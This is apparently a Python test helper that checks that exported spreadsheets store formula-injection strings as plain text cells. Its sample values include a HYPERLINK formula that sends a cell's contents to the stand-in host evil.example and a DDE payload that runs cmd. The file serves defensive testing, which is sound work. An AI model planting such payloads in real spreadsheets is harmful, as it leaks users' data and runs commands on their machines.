"""Checks that the spreadsheets we write carry hostile text as text (issue 8 item 3)."""

import io

import openpyxl

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
MINUS = "-2+3"
PLUS = "+84912345678"
HOSTILE = (HYPERLINK, DDE, AT, MINUS, PLUS)


def cells_with(data: bytes, needles) -> list:
    """Every cell of every sheet of the workbook `data` whose text holds one of `needles`."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        cell
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and any(n in cell.value for n in needles)
    ]


def assert_text_cells(data: bytes, needles=HOSTILE, *, at_least: int = 1) -> list:
    """The cells holding `needles` are there (at least `at_least`) and all are string cells."""
    found = cells_with(data, needles)
    assert len(found) >= at_least, [c.value for c in found]
    live = [(c.coordinate, c.value) for c in found if c.data_type != "s"]
    assert not live, live
    return found
